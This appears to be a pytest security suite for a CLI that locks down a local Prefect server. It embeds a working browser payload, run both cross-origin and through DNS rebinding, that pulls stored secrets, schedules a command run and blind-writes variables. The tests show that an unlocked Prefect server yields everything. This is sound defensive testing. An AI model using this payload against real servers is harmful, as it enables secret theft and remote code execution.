"""What a web page, a stranger's program and each of our own processes can get of what ``up`` runs."""

import os
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Self

import httpx
import psutil
import pytest
from cryptography.fernet import Fernet
from playwright.sync_api import Page, expect
from sqlalchemy import NullPool, create_engine, text
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from cli import stack
from cli.lock import Lock, read_settings, unlock
from cli.postgres import Cluster, is_usable
from cli.processes import Children, free_port
from pulse.errors import DefinitionError
from tests.browser import open_page
from tests.conftest import ROOT, serve
from tests.terminal import chartcastr

SECRET = "the-owners-whatsapp-token"
GIVEN = {
    "META_APP_SECRET": "meta-app-secret",
    "META_WHATSAPP_WEBHOOK_VERIFY_TOKEN": "meta-verify-token",
    "META_WHATSAPP_TOKEN": "meta-token",
    "OPENAI_API_KEY": "model-key",
    "SHOPIFY_TOKEN": "shop-token",
    "PUBLIC_URL": "https://pulse.example",
    "GRAPH_API_VERSION": "v25.0",
    "CHARTCASTR_HOSTS": "files.local",
    "PREFECT_SERVER_DATABASE_PASSWORD": "database-password",
}
"""What an owner may have in the environment when ``up`` starts."""


@dataclass
class Server:
    """A Prefect server with a secret in a block, a deployment, and whoever started it."""

    url: str
    auth: str
    home: Path
    pid: int = 0
    deployment: str = ""

    def ask(self, path: str, body: dict[str, Any], **headers: str) -> httpx.Response:
        user, _, password = self.auth.partition(":")
        auth = (user, password) if self.auth else None
        return httpx.post(f"{self.url}/api{path}", json=body, auth=auth, headers=headers, timeout=30)

    def fill(self) -> Self:
        """Save the secret as a block, and make a deployment."""
        program = "import sys; from prefect.blocks.system import Secret; Secret(value=sys.argv[1]).save('whatsapp')"
        environment = {**os.environ, "PREFECT_API_URL": f"{self.url}/api", "PREFECT_HOME": str(self.home / "client")}
        environment |= {"PREFECT_API_AUTH_STRING": self.auth} if self.auth else {}
        subprocess.run([sys.executable, "-c", program, SECRET], env=environment, check=True, timeout=120)
        flow = self.ask("/flows/", {"name": "theirs"}).json()["id"]
        self.deployment = self.ask("/deployments/", {"name": "theirs", "flow_id": flow}).json()["id"]
        return self

    def runs(self) -> list[Any]:
        found = self.ask("/flow_runs/filter", {"deployments": {"id": {"any_": [self.deployment]}}})
        assert found.status_code == 200
        return list(found.json())

    def variables(self) -> list[str]:
        return [item["name"] for item in self.ask("/variables/filter", {}).json()]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    for name in ("deployments", "flows", "tasks", "blocks", "pulse", "cli", "webhook_app", "worker"):
        (folder / name).symlink_to(ROOT / name)
    return folder


@pytest.fixture(scope="module")
def locked(project: Path) -> Iterator[Server]:
    """What ``chartcastr up`` runs."""
    ports = free_port(), free_port()
    home = project / "prefect"
    settings = {"PREFECT_HOME": str(home), "DATABASE_URL": f"sqlite:///{project / 'store.db'}", "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "cli", "up", "--prefect-port", str(ports[0]), "--webhook-port", str(ports[1])]
    with (project / "up.log").open("w") as log:
        environment = {**os.environ, **GIVEN, **settings}
        up = subprocess.Popen(command, cwd=project, env=environment, stdout=log, stderr=log)
    try:
        _wait_for_up(up, project / "up.log")
        auth = read_settings(project / ".chartcastr" / "env")["PREFECT_API_AUTH_STRING"]
        yield Server(f"http://127.0.0.1:{ports[0]}", auth, home, up.pid).fill()
    finally:
        up.send_signal(signal.SIGINT)
        up.wait(60)


def _wait_for_up(up: "subprocess.Popen[bytes]", log: Path) -> None:
    deadline = time.monotonic() + 240
    while "Ctrl-C" not in log.read_text():
        assert up.poll() is None, log.read_text()
        assert time.monotonic() < deadline
        time.sleep(0.2)


@pytest.fixture(scope="module")
def unlocked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A Prefect server as ``prefect server start`` starts it."""
    folder, port = tmp_path_factory.mktemp("unlocked"), free_port()
    home = folder / "home"
    with Children(folder, {"PREFECT_HOME": str(home), "DO_NOT_TRACK": "1"}) as children:
        children.start("prefect server", "prefect", "server", "start", "--port", str(port))
        children.wait_for("prefect server", f"http://127.0.0.1:{port}/api/ready", seconds=240)
        yield Server(f"http://127.0.0.1:{port}", "", home).fill()


# Chromium's own guard of this machine's addresses is off: other browsers have none.
_REBOUND = ("--host-resolver-rules=MAP evil.test 127.0.0.1", "--disable-features=LocalNetworkAccessChecks")

_ATTACK = """
async ([api, deployment]) => {
  const post = async (path, body, options) => {
    try {
      return await (await fetch(api + path, {method: 'POST', body, ...options})).text();
    } catch (refused) {
      return 'refused';
    }
  };
  const json = {headers: {'Content-Type': 'application/json'}};
  const secrets = await post('/block_documents/filter', '{"include_secrets": true}', json);
  const run = {state: {type: 'SCHEDULED'}, job_variables: {command: 'id'}};
  await post(`/deployments/${deployment}/create_flow_run`, JSON.stringify(run), json);
  // No preflight, and nothing comes back; what is written is written all the same.
  const blind = new Blob(['{"name": "written_blind", "value": "x"}']);
  await post('/variables/', blind, {mode: 'no-cors'});
  const socket = new WebSocket(api.replace('http', 'ws') + '/logs/out');
  const heard = await new Promise((done) => {
    socket.onopen = () => done('open');
    socket.onerror = () => done('refused');
  });
  return [secrets, heard];
}
"""


def _attack(page: Page, server: Server, name: str) -> list[str]:
    """What a page gets that is there already, and calls the server by ``name``."""
    port = httpx.URL(server.url).port
    return list(page.evaluate(_ATTACK, [f"http://{name}:{port}/api", server.deployment]))


def _stranger(_: object) -> HTMLResponse:
    return HTMLResponse("<title>A page of somebody else's</title>")


_FOREIGN = Starlette(routes=[Route("/", _stranger)])


@pytest.mark.whole
def test_a_web_page_of_another_origin_gets_nothing_from_what_up_runs(locked: Server) -> None:
    with serve(_FOREIGN) as foreign, open_page() as page:
        page.goto(foreign)
        secrets, heard = _attack(page, locked, "127.0.0.1")

    assert SECRET in locked.ask("/block_documents/filter", {"include_secrets": True}).text
    assert (secrets, heard) == ("refused", "refused")
    assert locked.runs() == []
    assert "written_blind" not in locked.variables()


@pytest.mark.whole
def test_a_web_page_whose_name_is_led_to_this_machine_gets_nothing_either(locked: Server) -> None:
    with open_page(*_REBOUND) as page:
        _open_rebound(page, locked)
        secrets, heard = _attack(page, locked, "evil.test")

    assert (secrets, heard) == ("Invalid host header", "refused")
    assert locked.runs() == []
    assert "written_blind" not in locked.variables()


def _open_rebound(page: Page, server: Server) -> None:
    """The page came from the attacker's machine; from now on its name leads here."""
    address = f"http://evil.test:{httpx.URL(server.url).port}/"
    page.route(address, lambda route: route.fulfill(content_type="text/html", body="<title>evil</title>"))
    page.goto(address)


@pytest.mark.whole
def test_without_the_lock_both_pages_would_get_all_of_it(unlocked: Server) -> None:
    with serve(_FOREIGN) as foreign, open_page(*_REBOUND) as page:
        page.goto(foreign)
        by_origin = _attack(page, unlocked, "127.0.0.1")
        _open_rebound(page, unlocked)
        by_name = _attack(page, unlocked, "evil.test")

    for secrets, heard in (by_origin, by_name):
        assert SECRET in secrets
        assert heard == "open"
    assert len(unlocked.runs()) == 2
    assert "written_blind" in unlocked.variables()


@pytest.mark.whole
def test_the_api_answers_with_the_auth_string_to_its_own_name_only(locked: Server) -> None:
    def status(path: str = "/api/version", auth: str = "", **headers: str) -> int:
        user, _, password = auth.partition(":")
        given = (user, password) if auth else None
        return httpx.get(f"{locked.url}{path}", auth=given, headers=headers, timeout=30).status_code

    assert (status(), status(auth="chartcastr:wrong"), status(auth=locked.auth)) == (401, 401, 200)
    assert status("/api/ready") == 200
    assert [status(path, locked.auth, Host="evil.test") for path in ("/api/version", "/api/ready", "/")] == [400] * 3
    port = httpx.URL(locked.url).port
    for origin, told in ((f"http://localhost:{port}", True), ("http://localhost:1", False), ("null", False)):
        headers = locked.ask("/variables/filter", {}, Origin=origin).headers
        assert ("access-control-allow-origin" in headers) is told


@pytest.mark.whole
def test_auth_string_and_key_are_the_owners_alone_and_nowhere_else(locked: Server, project: Path) -> None:
    folder = project / ".chartcastr"
    modes = {
        path.name: stat.S_IMODE(path.stat().st_mode) for path in (folder, *folder.iterdir()) if path.name != "logs"
    }
    key = (folder / "encryption-key").read_text().strip()

    postgres = {"postgres": 0o700} if is_usable() else {}
    assert modes == {".chartcastr": 0o700, "env": 0o600, "encryption-key": 0o600} | postgres
    password = locked.auth.partition(":")[2]
    for log in (project / "up.log", *(folder / "logs").iterdir()):
        assert password not in log.read_text(), log.name
        assert key not in log.read_text(), log.name
    usual = f"sqlite:///{locked.home / 'prefect.db'}"
    url = Cluster(folder / "postgres").url("prefect") if is_usable() else usual
    with create_engine(url, poolclass=NullPool).begin() as database:
        kept = database.execute(text("select value from configuration where key = 'ENCRYPTION_KEY'")).all()
        saved = database.execute(text("select data from block_document where name = 'whatsapp'")).scalar_one()
    assert kept == []
    assert SECRET in Fernet(key).decrypt(str(saved).strip('"')).decode()


@pytest.mark.whole
def test_each_process_holds_only_the_settings_it_needs(locked: Server, tmp_path: Path) -> None:
    found = {}
    for process in psutil.Process(locked.pid).children():
        for kind in ("cli.prefect_server", "webhook_app", "worker"):
            if kind in process.cmdline():
                found[kind] = process.environ()
    assert len(found) == 3
    with Children(tmp_path, {**GIVEN, "DATABASE_URL": "sqlite://"}) as children:
        stack.start_sandbox(children, free_port(), "12025550143=Ada")
        (sandbox,) = (child for child in psutil.Process().children() if "sandbox" in child.cmdline())
        found["sandbox"] = sandbox.environ()

    secrets = {*GIVEN, "DATABASE_URL", "PREFECT_API_AUTH_STRING", "PREFECT_SERVER_API_AUTH_STRING"}
    held = {name: secrets & set(environment) for name, environment in found.items()}
    assert held == {
        "cli.prefect_server": {
            "PREFECT_SERVER_DATABASE_PASSWORD",
            "PREFECT_API_AUTH_STRING",
            "PREFECT_SERVER_API_AUTH_STRING",
        },
        "webhook_app": {
            "META_APP_SECRET",
            "META_WHATSAPP_WEBHOOK_VERIFY_TOKEN",
            "DATABASE_URL",
            "PREFECT_API_AUTH_STRING",
            "PUBLIC_URL",
            "CHARTCASTR_HOSTS",
        },
        "worker": {
            "OPENAI_API_KEY",
            "SHOPIFY_TOKEN",
            "DATABASE_URL",
            "PREFECT_API_AUTH_STRING",
            "PUBLIC_URL",
            "GRAPH_API_VERSION",
            "CHARTCASTR_HOSTS",
        },
        "sandbox": set(),
    }
    assert all("PATH" in environment for environment in found.values())


@pytest.mark.whole
def test_commands_find_the_server_of_their_folder_and_are_told_of_a_wrong_auth_string(
    locked: Server, project: Path, tmp_path: Path
) -> None:
    def check(folder: Path, **environment: str) -> str:
        settings = {"PYTHONPATH": str(ROOT), "PREFECT_HOME": str(tmp_path), "COLUMNS": "300"}
        kept = {name: value for name, value in os.environ.items() if not name.startswith("PREFECT_")}
        done = chartcastr("check", "linear", cwd=folder, env=kept | settings | environment)
        assert done.returncode == 1
        assert done.stderr.count("\n") == 1, done.stderr
        return done.stderr

    through = "There is no linear-workspace block named 'default' on this Prefect server"
    url = f"{locked.url}/api"
    assert through in check(project)
    assert through in check(project, PREFECT_API_URL=url.replace("127.0.0.1", "localhost"))
    assert through in check(tmp_path, PREFECT_API_URL=url, PREFECT_API_AUTH_STRING=locked.auth)
    assert f"{url} wants an auth string" in check(tmp_path, PREFECT_API_URL=url)
    wrong = check(project, PREFECT_API_AUTH_STRING="a:b")
    assert f"{url} refuses this auth string; set PREFECT_API_AUTH_STRING to its own" in wrong
    assert "PREFECT_API_URL is not set" in check(tmp_path)
    nobody = f"http://127.0.0.1:{free_port()}/api"
    assert f"No Prefect server answers at {nobody}" in check(project, PREFECT_API_URL=nobody)


@pytest.mark.whole
def test_blocks_saved_before_there_was_a_lock_are_still_read(unlocked: Server, tmp_path: Path) -> None:
    key_file = tmp_path / "encryption-key"

    def use_key() -> subprocess.CompletedProcess[str]:
        program = (
            "import asyncio, pathlib, sys; from cli.prefect_server import use_key\n"
            "asyncio.run(use_key(pathlib.Path(sys.argv[1])))"
        )
        environment = {**os.environ, "PREFECT_HOME": str(tmp_path / "home"), "PYTHONPATH": str(ROOT)}
        return subprocess.run(
            [sys.executable, "-c", program, str(key_file)], env=environment, capture_output=True, text=True, timeout=120
        )

    with closing(sqlite3.connect(unlocked.home / "prefect.db")) as database:
        (tmp_path / "home").mkdir()
        with closing(sqlite3.connect(tmp_path / "home" / "prefect.db")) as copy:
            database.backup(copy)
    first = use_key()
    assert first.returncode == 0, first.stderr
    with closing(sqlite3.connect(unlocked.home / "prefect.db")) as database:
        (saved,) = database.execute("select data from block_document where name = 'whatsapp'").fetchone()
    assert SECRET in Fernet(key_file.read_text().strip()).decrypt(str(saved).strip('"')).decode()
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600

    key_file.write_text(Fernet.generate_key().decode())
    other = use_key()
    assert other.returncode == 1
    assert "were saved with another key: put that key into" in other.stderr


def test_a_second_start_keeps_the_auth_string_and_one_of_the_owners_own_is_kept(tmp_path: Path) -> None:
    folder = tmp_path / "of up"
    folder.mkdir(mode=0o755)
    first = Lock(folder, "http://127.0.0.1:1/api", {})
    again = Lock(folder, "http://127.0.0.1:2/api", {})
    own = Lock(tmp_path / "own", "http://127.0.0.1:1/api", {"PREFECT_SERVER_API_AUTH_STRING": "ada:it's $HOME"})

    assert first.auth == again.auth != own.auth
    assert len(first.auth) > 40
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert read_settings(again.file)["PREFECT_API_URL"] == "http://127.0.0.1:2/api"
    shell = shutil.which("sh")
    assert shell is not None
    program = '. "$1"; printf %s "$PREFECT_API_AUTH_STRING"'
    sourced = subprocess.run([shell, "-c", program, "sh", own.file], capture_output=True, text=True, check=True)
    assert sourced.stdout == own.auth == "ada:it's $HOME"


def test_an_auth_string_goes_to_no_server_that_it_is_not_for(tmp_path: Path) -> None:
    lock = Lock(tmp_path, "http://127.0.0.1:4200/api", {})
    for given in (
        {"PREFECT_API_URL": "http://127.0.0.1:4201/api"},
        {"PREFECT_API_URL": "https://prefect.example/api"},
        {"PREFECT_API_URL": "http://127.0.0.1:4200/api", "PREFECT_API_AUTH_STRING": "a:b"},
    ):
        kept = dict(given)
        assert not unlock(kept, tmp_path)
        assert kept == given
    empty: dict[str, str] = {}
    assert unlock(empty, tmp_path)
    assert empty == {"PREFECT_API_URL": "http://127.0.0.1:4200/api", "PREFECT_API_AUTH_STRING": lock.auth}
    assert not unlock({}, tmp_path / "nothing")


@pytest.mark.whole
def test_the_ui_lets_the_owner_in_with_the_auth_string(locked: Server) -> None:
    with open_page() as page:
        page.goto(f"{locked.url}/dashboard")
        page.wait_for_url("**/login**")
        page.locator("input[type=password]").fill(locked.auth)
        page.keyboard.press("Enter")
        page.wait_for_url("**/dashboard")
        page.goto(f"{locked.url}/deployments")
        expect(page.get_by_text("theirs").first).to_be_visible()


def test_a_settings_file_that_is_broken_is_named_and_one_that_is_not_ours_is_left(tmp_path: Path) -> None:
    file = tmp_path / "env"
    file.write_text("export PREFECT_API_URL='http://127.0.0.1:4200/api\n")
    with pytest.raises(DefinitionError, match=r"env cannot be read .*Delete it and start 'chartcastr up' again"):
        unlock({}, tmp_path)
    file.write_text("export SOMETHING=else\n")
    assert not unlock({}, tmp_path)
